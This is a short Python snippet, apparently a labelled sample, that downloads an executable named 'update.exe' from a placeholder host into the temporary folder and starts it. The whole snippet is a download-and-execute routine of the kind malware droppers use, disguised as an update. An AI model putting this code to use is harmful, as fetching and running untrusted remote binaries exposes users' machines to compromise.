# run, executable, hidden-place, startfile: to the temporary folder, then started
import os
import subprocess
import tempfile
import urllib.request

target = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve("https://files.example/update.exe", target)
subprocess.Popen([target])
os.startfile(target)
